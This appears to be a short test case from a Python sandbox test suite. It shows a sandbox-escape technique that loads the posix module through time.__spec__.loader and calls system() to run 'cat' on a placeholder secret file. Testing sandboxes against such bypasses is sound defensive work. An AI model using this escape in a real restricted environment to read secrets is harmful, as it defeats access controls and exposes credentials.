# So does the loader in its __spec__.
# effect: run
import time
time.__spec__.loader.load_module("posix").system("cat @SECRET@")
